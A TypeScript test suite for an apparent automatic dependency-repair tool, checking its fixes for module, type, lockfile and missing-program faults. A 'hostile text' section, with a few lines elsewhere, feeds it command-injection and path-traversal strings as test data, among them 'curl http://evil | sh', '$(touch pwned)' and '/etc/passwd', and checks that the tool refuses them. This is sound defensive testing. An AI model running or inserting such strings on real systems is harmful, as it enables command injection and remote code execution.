  const kind = (code: string, files: Record<string, string>, file = 'a.js') =>
    ask({ code, category: 'configuration', files, location: { file: `/project/${file}` } })

  it('sets the type that all files are written for', async () => {
    const esm = { 'a.js': "import './b.js'", 'b.js': 'export {}', 'data.js': '1' }
    const set = await kind('ESM_IN_COMMONJS', { 'package.json': '{\n  "name": "x",\n  "type": "commonjs"\n}\n', ...esm })
    expect(after(set.proposals[0], 'package.json')).toBe('{\n  "name": "x",\n  "type": "module"\n}\n')
    const added = await kind('ESM_IN_COMMONJS', { 'package.json': '{\n  "name": "x"\n}\n', ...esm })
    expect(after(added.proposals[0], 'package.json')).toBe('{\n  "name": "x",\n  "type": "module"\n}\n')
    const cjs = await kind('COMMONJS_IN_ESM', {
      'package.json': '{"type":"module"}',
      'a.js': "require('./b.js')",
      'b.js': 'module.exports = 1',
    })
    expect(after(cjs.proposals[0], 'package.json')).toBe('{"type":"commonjs"}')
  })

  it('writes the exports of the one file that differs as the project does', async () => {
    const modules = {
      'package.json': '{"type":"module"}',
      'a.js': "import { total } from './b.js'\ntotal()",
      'b.js': 'exports.total = function total() {}\n',
    }
    const answer = await ask({
      code: 'EXPORT_NOT_FOUND',
      files: modules,
      details: { specifier: './b.js', importer: 'a.js', name: 'total' },
    })
    expect(after(answer.proposals[0], 'b.js')).toBe('export function total() {}\n')
    const scripts = {
      'package.json': '{"type":"commonjs"}',
      'a.js': "const { total } = require('./b.js')\ntotal()",
      'b.js': 'export function total() {}\n',
    }
    const { proposals } = await kind('ESM_IN_COMMONJS', scripts, 'b.js')
    expect(after(proposals[0], 'b.js')).toBe('function total() {}\n\nexports.total = total\n')
  })

  it('renames the one file that differs, with its imports', async () => {
    const files = {
      'package.json': '{"type":"module"}',
      'jest.config.js': 'module.exports = {}',
      'src/a.js': "import x from '../jest.config.js'",
      'src/b.js': 'export {}',
    }
    const { proposals } = await kind('COMMONJS_IN_ESM', files, 'jest.config.js')
    expect(proposals).toHaveLength(1)
    expect(proposals[0]).toMatchObject({ title: 'Rename jest.config.js to jest.config.cjs', plausibility: 0.85 })
    expect(after(proposals[0])).toBe("import x from '../jest.config.cjs'")
    expect(after(proposals[0], 'jest.config.cjs')).toBe('module.exports = {}')
    const index = await kind(
      'COMMONJS_IN_ESM',
      { 'package.json': '{"type":"module"}', 'lib/index.js': 'exports.a = 1', 'a.js': "import './lib/'\n" },
      'lib/index.js',
    )
    // An import of a folder finds no other ending.
    expect(index.proposals.map(({ title }) => title)).toEqual([
      'Write the exports of lib/index.js as those of an ECMAScript module',
    ])
  })

  it('writes a file of both kinds as the kind of its project', async () => {
    const mixed = "import a from './b.js'\nconst c = require('./c')\nlet d = a + c"
    const esm = { 'package.json': '{"type":"module"}', 'a.js': mixed, 'b.js': 'export default 1', 'c.js': 'export const e = 1' }
    const told = await kind('COMMONJS_IN_ESM', esm)
    expect(after(told.proposals[0], 'a.js')).toBe("import a from './b.js'\nimport * as c from './c.js'\nlet d = a + c")
    const untold = await ask({ code: 'COMMONJS_IN_ESM', files: esm })
    expect(untold.proposals).toEqual(told.proposals)
    const cjs = {
      'package.json': '{}',
      'a.js': mixed,
      'b.js': 'export default 1',
      'c.js': 'exports.e = 1',
      'd.js': "require('x')",
    }
    const required = await ask({ code: 'ESM_IN_COMMONJS', files: cjs })
    expect(after(required.proposals[0], 'a.js')).toBe(
      "const a = require('./b.js').default\nconst c = require('./c')\nlet d = a + c",
    )
  })

  it('explains what it cannot tell', async () => {
    const files = {
      'package.json': '{"type":"module"}',
      'a.js': "import 'x'\nif (y) require('y')",
      'b.cjs': "import 'x'",
      'node_modules/x/i.js': '',
    }
    expect(await kind('COMMONJS_IN_ESM', files)).toMatchObject({ ...nothing, notes: [expect.stringContaining('both')] })
    expect(await kind('ESM_IN_COMMONJS', files, 'b.cjs')).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('"type": "module"')],
    })
    expect(await kind('ESM_IN_COMMONJS', files, 'node_modules/x/i.js')).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('not one of the project')],
    })
    expect(await ask({ code: 'ESM_IN_COMMONJS', files })).toMatchObject(nothing)
    expect(await ask({ code: 'ERR_REQUIRE_ESM', files })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('await import')],
    })
    const bridged = {
      'package.json': '{}',
      'a.js': "import { createRequire } from 'module'\nconst require = createRequire(import.meta.url)\nrequire('x')",
    }
    expect((await kind('ESM_IN_COMMONJS', bridged)).proposals.length).toBeGreaterThan(0)
  })
})

describe('dependencyRepairer: types', () => {
  const types = (
    code: string,
    details: Fault['details'],
    files: Record<string, string>,
    installs: RepairRequest['installs'] = 'any',
  ) => ask({ code, category: 'dependency', files, details, installs, location: { file: 'a.ts' } })

  it('adds the types of a package that the project has', async () => {
    const { proposals } = await types(
      'TS7016',
      { specifier: '@babel/core' },
      { 'package.json': '{"dependencies":{"@babel/core":"7"}}', 'a.ts': '' },
    )
    expect(proposals[0]?.actions).toMatchObject([{ packages: [{ name: '@types/babel__core', dev: true }] }])
    const node = await types('TS2591', { package: '@types/node' }, { 'package.json': '{}', 'a.ts': '' })
    expect(node.proposals[0]?.actions).toMatchObject([{ packages: [{ name: '@types/node', dev: true }] }])
  })

  it('brings in types that are declared', async () => {
    const { proposals } = await types(
      'TS2688',
      { specifier: 'node' },
      { 'package.json': '{"devDependencies":{"@types/node":"24"}}', 'a.ts': '' },
      'declared',
    )
    expect(proposals[0]?.actions).toMatchObject([{ packages: [] }])
  })

  it('leaves the others alone, and says why', async () => {
    const note = async (...parameters: Parameters<typeof types>) => {
      const { proposals, notes } = await types(...parameters)
      expect(proposals).toEqual([])
      return notes.join()
    }
    expect(await note('TS7016', { specifier: 'stranger' }, { 'package.json': '{}', 'a.ts': '' })).toContain(
      'does not name that package',
    )
    expect(await note('TS7016', { specifier: './b.js' }, { 'a.ts': '' })).toContain('allowJs')
    expect(await note('TS2304', {}, {})).toBe('')
    expect(await note('TS2580', {}, {})).toContain('tsconfig')
    expect(
      await note('TS2688', { specifier: 'node' }, { 'package.json': '{}', 'node_modules/@types/node/package.json': '{}' }),
    ).toContain('typeRoots')
    expect(
      await note('TS7016', { specifier: 'lodash' }, { 'package.json': '{"dependencies":{"lodash":"4"}}' }, 'declared'),
    ).toContain('--save-dev @types/lodash')
  })
})

describe('dependencyRepairer: programs', () => {
  const program = (name: string, files: Record<string, string>, installs: RepairRequest['installs'] = 'declared') =>
    ask({ code: 'COMMAND_NOT_FOUND', files, details: { program: name }, installs })

  it.each([
    ['vitest', { 'package.json': '{"devDependencies":{"vitest":"5"}}' }],
    ['tsc', { 'package.json': '{"devDependencies":{"typescript":"5"}}' }],
    ['node_modules/.bin/ng', { 'package.json': '{"devDependencies":{"@angular/cli":"5"}}' }],
    [
      'odd',
      {
        'package.json': '{}',
        'package-lock.json': JSON.stringify({ packages: { 'node_modules/even': { version: '1.0.0', bin: { odd: 'x' } } } }),
      },
    ],
    [
      'acme',
      {
        'package.json': '{"devDependencies":{"@acme/tool":"5"}}',
        'node_modules/@acme/tool/package.json': '{"bin":{"acme":"x.js"}}',
      },
    ],
    [
      'tool',
      {
        'package.json': '{"devDependencies":{"@acme/tool":"5"}}',
        'node_modules/@acme/tool/package.json': '{"name":"@acme/tool","bin":"x.js"}',
      },
    ],
  ])('brings in the declared package of %j', async (name, files) => {
    const { proposals } = await program(name, files)
    expect(proposals[0]?.actions).toMatchObject([{ kind: 'install', packages: [] }])
  })

  it('names a tool again that the manifest lost and the lockfile remembers', async () => {
    const lock = (devDependencies: object) =>
      JSON.stringify({
        packages: { '': { devDependencies }, 'node_modules/even': { version: '1.2.0', bin: { odd: 'x.js' } } },
      })
    const manifest = '{\n  "name": "p"\n}\n'
    const lost = await program('odd', { 'package.json': manifest, 'package-lock.json': lock({ even: '~1.2.0' }) })
    expect(lost.proposals).toHaveLength(1)
    expect(after(lost.proposals[0], 'package.json')).toBe(
      '{\n  "name": "p",\n  "devDependencies": {\n    "even": "~1.2.0"\n  }\n}\n',
    )
    expect(lost.proposals[0]?.actions).toMatchObject([{ kind: 'install', packages: [] }])
    // What came along with another package is first brought in as it was.
    const along = await program('odd', { 'package.json': manifest, 'package-lock.json': lock({}) })
    expect(along.proposals.map(({ actions }) => actions)).toMatchObject([
      [{ packages: [] }],
      [{ packages: [{ name: 'even', range: '^1.2.0', dev: true }] }],
    ])
  })

  it('adds the package of a program that the code imports, where strangers are let in', async () => {
    const files = { 'package.json': '{}', 'test/a.js': "import { check } from 'some-runner/assert'" }
    expect((await program('some-runner', files, 'any')).proposals[0]?.actions).toMatchObject([
      { packages: [{ name: 'some-runner', dev: true }] },
    ])
    expect((await program('some-runner', files)).proposals).toEqual([])
    expect((await program('some-runner', { 'package.json': '{}' }, 'any')).proposals).toEqual([])
  })

  it('adds the usual package of a well-known program, where strangers are let in', async () => {
    const { proposals } = await program('tsc', { 'package.json': '{}' }, 'any')
    expect(proposals[0]?.actions).toMatchObject([{ packages: [{ name: 'typescript', dev: true }] }])
    expect(await program('tsc', { 'package.json': '{}' })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('npm install --ignore-scripts --save-dev typescript')],
    })
  })

  it('looks into the package whose script runs it', async () => {
    const files = {
      'package.json': '{"workspaces":["p"]}',
      'p/package.json': '{"scripts":{"t":"cross-env A=1 vitest"},"devDependencies":{"vitest":"5"}}',
    }
    expect((await program('vitest', files)).proposals[0]?.actions).toMatchObject([{ folder: '' }])
  })

  it.each(['git', 'make', 'python3', 'docker', 'jq'])('never takes %j from a registry', async (name) => {
    expect((await program(name, { 'package.json': '{}' }, 'any')).proposals).toEqual([])
  })

  it.each(shown(['x; touch pwned', '', '../../bin/x', '--help', '\u001b[31mx', 'x'.repeat(100_000)]))(
    'refuses $title',
    async ({ value: name }) => {
      const { proposals, notes } = await program(name, { 'package.json': '{}' }, 'any')
      expect(proposals).toEqual([])
      expect(notes.join().length).toBeLessThan(400)
    },
  )

  it('suggests the program that was meant', async () => {
    expect((await program('vitets', { 'package.json': '{"devDependencies":{"vitest":"5"}}' })).notes.join()).toContain('"vitest"')
  })
})

describe('dependencyRepairer: registry and lockfile', () => {
  const lock = JSON.stringify({ packages: { 'node_modules/express': { version: '4.19.2' } } })

  it('brings manifest and lockfile into step', async () => {
    const { proposals } = await ask({ code: 'LOCKFILE_OUT_OF_STEP', files: { 'package.json': '{}', 'package-lock.json': '{}' } })
    expect(proposals[0]?.actions).toMatchObject([{ kind: 'install', packages: [] }])
    expect(await ask({ code: 'PACKAGES_OUT_OF_STEP', files: {} })).toMatchObject(nothing)
  })

  it('writes a lockfile anew that is missing or cannot be read', async () => {
    for (const lockfile of [{}, { 'package-lock.json': '{"packages":' }]) {
      const { proposals } = await ask({ code: 'LOCKFILE_MISSING', files: { 'package.json': '{}', ...lockfile } })
      expect(proposals).toMatchObject([{ edits: [], actions: [{ kind: 'install', packages: [], manager: 'npm' }] }])
    }
  })

  it('explains what a person must settle', async () => {
    const { notes } = await ask({
      code: 'PEER_CONFLICT',
      files: {},
      details: { package: 'react', expected: '^17', name: 'old-widget', actual: '18.2.0' },
    })
    expect(notes).toEqual([
      '"old-widget" wants "react" "^17" beside it and finds "18.2.0". Change one of the two ranges in the manifest so that both fit.',
    ])
    expect(await ask({ code: 'PEER_CONFLICT', files: {} })).toMatchObject({ ...nothing, notes: [expect.any(String)] })
    expect(await ask({ code: 'EINTEGRITY', files: {} })).toMatchObject({ ...nothing, notes: [expect.stringContaining('cache')] })
  })

  it('corrects a name that the registry does not know to the one that is locked', async () => {
    const files = { 'package.json': '{"dependencies":{"expresss":"^4"}}', 'package-lock.json': lock }
    const { proposals } = await ask({ code: 'PACKAGE_NOT_FOUND', files, details: { package: 'expresss' } })
    expect(after(proposals[0], 'package.json')).toBe('{"dependencies":{"express":"^4"}}')
  })

  it('only suggests a name that the project does not know, unless strangers are let in', async () => {
    const files = { 'package.json': '{"dependencies":{"lodahs":"^4"}}' }
    expect(await ask({ code: 'PACKAGE_NOT_FOUND', files, details: { package: 'lodahs' } })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('Did you mean "lodash"')],
    })
    expect(
      after(
        (await ask({ code: 'PACKAGE_NOT_FOUND', files, details: { package: 'lodahs' }, installs: 'any' })).proposals[0],
        'package.json',
      ),
    ).toContain('"lodash"')
    expect(await ask({ code: 'PACKAGE_NOT_FOUND', files, details: { package: 'zzzzzzzz' } })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('no manifest declares it')],
    })
    for (const name of ['x; id', '../x', ''])
      expect(await ask({ code: 'PACKAGE_NOT_FOUND', files, details: { package: name } })).toMatchObject({
        ...nothing,
        notes: [expect.stringContaining('cannot be read')],
      })
  })

  it('asks for the locked or installed version when the range has none', async () => {
    const files = { 'package.json': '{"devDependencies":{"express":"^99"}}', 'package-lock.json': lock }
    const { proposals } = await ask({ code: 'VERSION_NOT_FOUND', files, details: { package: 'express' } })
    expect(after(proposals[0], 'package.json')).toBe('{"devDependencies":{"express":"^4.19.2"}}')
    const installed = await ask({
      code: 'VERSION_NOT_FOUND',
      files: { 'package.json': files['package.json'], 'node_modules/express/package.json': '{"version":"5.0.1"}' },
      details: { package: 'express' },
    })
    expect(after(installed.proposals[0], 'package.json')).toBe('{"devDependencies":{"express":"^5.0.1"}}')
    expect(
      await ask({ code: 'VERSION_NOT_FOUND', files: { 'package.json': files['package.json'] }, details: { package: 'express' } }),
    ).toMatchObject({ ...nothing, notes: [expect.stringContaining('npm view')] })
    expect(await ask({ code: 'VERSION_NOT_FOUND', files, details: { package: 'other' } })).toMatchObject(nothing)
  })
})

describe('dependencyRepairer: what tools really print', () => {
  const heal = async (output: string, files: Record<string, string>) => {
    const [fault] = classify({ output, exitCode: 1, command: 'node src/a.js' })
    if (fault === undefined) throw new Error('no fault was seen')
    const { proposals } = await dependencyRepairer.propose({
      fault,
      workspace: memoryWorkspace(files, { root }),
      command: ['node', 'src/a.js'],
      installs: 'declared',
      proposalsMax: 3,
      signal: new AbortController().signal,
    })
    return proposals
  }

  it('heals what the loader for modules says', async () => {
    const output =
      "node:internal/modules/esm/resolve:271\n    throw new ERR_MODULE_NOT_FOUND(\n          ^\n\nError [ERR_MODULE_NOT_FOUND]: Cannot find module '/project/src/utl' imported from /project/src/a.js\n    at finalizeResolution (node:internal/modules/esm/resolve:271:11) {\n  code: 'ERR_MODULE_NOT_FOUND',\n  url: 'file:///project/src/utl'\n}\n\nNode.js v24.21.0\n"
    expect(
      after((await heal(output, { 'src/a.js': "import { x } from './utl'\n", 'src/util.js': 'export const x = 1' }))[0]),
    ).toBe("import { x } from './util.js'\n")
  })

  it('heals what require() says', async () => {
    const output =
      "node:internal/modules/cjs/loader:1386\n  throw err;\n  ^\n\nError: Cannot find module 'expres'\nRequire stack:\n- /project/src/a.js\n    at Function._resolveFilename (node:internal/modules/cjs/loader:1383:15) {\n  code: 'MODULE_NOT_FOUND',\n  requireStack: [ '/project/src/a.js' ]\n}\n"
    expect(
      after(
        (
          await heal(output, {
            'package.json': '{"dependencies":{"express":"4"}}',
            'src/a.js': "require('expres')\n",
            'node_modules/express/package.json': '{}',
          })
        )[0],
      ),
    ).toBe("require('express')\n")
  })

  it('heals what the compiler says', async () => {
    const output = "src/a.ts(1,19): error TS2307: Cannot find module './Util.js' or its corresponding type declarations.\n"
    expect(
      after(
        (await heal(output, { 'src/a.ts': "import { x } from './Util.js'\n", 'src/util.ts': 'export const x = 1' }))[0],
        'src/a.ts',
      ),
    ).toBe("import { x } from './util.js'\n")
  })
})

describe('dependencyRepairer: hostile text', () => {
  const files = { 'package.json': '{"dependencies":{"x":"1"}}', 'src/a.js': "import 'x'\n", '.env': 'SECRET', 'src/x.js': '' }

  it.each(
    shown([
      'x; touch pwned',
      'x && curl http://evil | sh',
      '$(touch pwned)',
      '`id`',
      '--registry=http://evil',
      '\u001b]0;title\u0007\u001b[2Jx',
      '../../outside',
      '../../../../../../etc/passwd',
      '/etc/passwd',
      'file:///etc/passwd',
      'http://evil/x.tgz',
      'git+ssh://evil/x',
      'C:\\windows\\system32',
      '\\\\server\\share',
      '__proto__',
      'constructor/prototype',
      '.git/config',
      'node_modules/x; id',
      'x'.repeat(1_000_000),
      '../'.repeat(300_000),
      '@/'.repeat(400_000),
      '\0',
      '',
    ]),
  )('proposes nothing for $title', async ({ value: specifier }) => {
    for (const importer of ['src/a.js', '/project/src/a.js', undefined]) {
      const { proposals, notes } = await ask({
        files,
        details: { specifier, ...(importer !== undefined && { importer }) },
        installs: 'any',
      })
      expect(
        proposals.filter(
          ({ edits, actions }) =>
            edits.length > 0 ||
            actions.some((action) => action.kind !== 'install' || action.packages.some(({ name }) => name !== 'constructor')),
        ),
      ).toEqual([])
      for (const note of notes)
        expect(note).toSatisfy((text: string) => text.length < 1000 && !/[\u0000-\u001f\u007f]/.test(text))
    }
  })

  it.each(
    shown([
      '/etc/passwd',
      '../../outside/a.js',
      '/project/../other/a.js',
      '/project/.git/../../x.js',
      'file:///etc/passwd',
      '/project2/src/a.js',
      '\0',
      'C:\\a.js',
      'http://x/a.js',
      'x'.repeat(100_000),
    ]),
  )('never touches the importer $title', async ({ value: importer }) => {
    const { proposals, notes } = await ask({
      files: { ...files, 'src/util.js': '' },
      details: { specifier: './utl.js', importer },
    })
    expect(proposals).toEqual([])
    expect(notes.length).toBeGreaterThan(0)
  })

  it('never edits what a build made', async () => {
    const made = { 'dist/a.js': "import './utl.js'", 'dist/util.js': '' }
    expect(await ask({ files: made, details: { specifier: './utl.js', importer: 'dist/a.js' } })).toMatchObject({
      ...nothing,
      notes: [expect.stringContaining('build again')],
    })
  })

  it('writes no file name into code that would end the quotes', async () => {
    const { proposals } = await missing("./o'brien", {
      code: 'import "./utl.js"',
      files: { "src/uti'l.js": '' },
      details: { specifier: './utl.js' },
    })
    expect(proposals).toEqual([])
  })

  it('never throws, edits only source files of the project that import, and gives titles that fit', async () => {
    const text = fc.oneof(
      anyText,
      fc.constantFrom('./utl.js', 'x', 'xx', 'src/a.js', '/project/src/a.js', './', '..', '@a/b', 'node:fss', '#x'),
    )
    const code = fc.constantFrom(
      'MODULE_NOT_FOUND',
      'EXPORT_NOT_FOUND',
      'TS2307',
      'TS2305',
      'TS2835',
      'TS7016',
      'COMMAND_NOT_FOUND',
      'PACKAGE_NOT_FOUND',
      'VERSION_NOT_FOUND',
      'ESM_IN_COMMONJS',
      'COMMONJS_IN_ESM',
      'ERR_UNSUPPORTED_DIR_IMPORT',
      'OTHER',
    )
    const details = fc.dictionary(fc.constantFrom('specifier', 'importer', 'name', 'package', 'program', '__proto__'), text)
    await fc.assert(
      fc.asyncProperty(
        code,
        details,
        text,
        fc.constantFrom('never', 'declared', 'any'),
        async (kind, given, message, installs) => {
          const { proposals, notes } = await ask({
            files: { ...files, 'src/util.js': 'export const x = 1', 'src/c.js': "import { y } from './utl.js'" },
            code: kind,
            details: given,
            message,
            installs,
            location: { file: given['importer'] ?? 'src/c.js' },
            proposalsMax: 3,
          })
          expect(proposals.length).toBeLessThanOrEqual(3)
          for (const { title, edits, actions, plausibility } of proposals) {
            expect(title).toMatch(/^[^\u0000-\u001f]{1,120}$/)
            expect(plausibility >= 0 && plausibility <= 1).toBe(true)
            for (const edit of edits) expect(edit.path).toMatch(/^(?:src\/[\w.]+|package\.json)$/)
            for (const edit of edits) expect(edit.baseHash).toBe(edit.before === null ? null : sha256(edit.before))
            expect(installs === 'never' ? actions : []).toEqual([])
          }
          for (const note of notes) expect(note).not.toMatch(/[\u0000-\u001f]/)
        },
      ),
      { numRuns: 150 },
    )
  })

  it('stops at once when it is aborted', async () => {
    const reason = new Error('enough')
    const fault: Fault = {
      category: 'dependency',
      severity: 'high',
      code: 'X',
      transient: false,
      fingerprint: '',
      message: '',
      details: {},
      evidence: [],
    }
    await expect(
      dependencyRepairer.propose({
        fault,
        workspace: memoryWorkspace({}),
        command: [],
        installs: 'any',
        proposalsMax: 1,
        signal: AbortSignal.abort(reason),
      }),
    ).rejects.toBe(reason)
  })

  it('says nothing about faults of another kind', async () => {
    expect(await ask({ files, code: 'SYNTAX_ERROR', category: 'syntax' })).toEqual({ proposals: [], notes: [] })
  })

  it('gives at most as many proposals as are wanted', async () => {
    const many = Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`src/util${index}.js`, '']))
    for (const proposalsMax of [0, 1, 3])
      expect((await missing('./util.js', { code: "import './util.js'", files: many, proposalsMax })).proposals).toHaveLength(
        proposalsMax,
      )
  })
})

describe('dependencyRepairer and the ending of an import', () => {
  it('keeps the ending that is written in a TypeScript file, and offers the ending of the source second', async () => {
    const workspace = memoryWorkspace({
      'src/util.ts': 'export const a = 1\n',
      'test/util.test.ts': "import { a } from '../src/utils.js'\n",
    })
    const { proposals } = await dependencyRepairer.propose({
      fault: {
        category: 'dependency',
        severity: 'high',
        code: 'MODULE_NOT_FOUND',
        transient: false,
        fingerprint: '0'.repeat(16),
        message: "Cannot find module '../src/utils.js' imported from '/project/test/util.test.ts'",
        details: { specifier: '../src/utils.js', importer: 'test/util.test.ts' },
        evidence: [],
      },
      workspace,
      command: ['npm', 'test'],
      installs: 'declared',
      proposalsMax: 5,
      signal: new AbortController().signal,
    })
    expect(proposals[0]?.edits[0]?.after).toBe("import { a } from '../src/util.js'\n")
  })
})
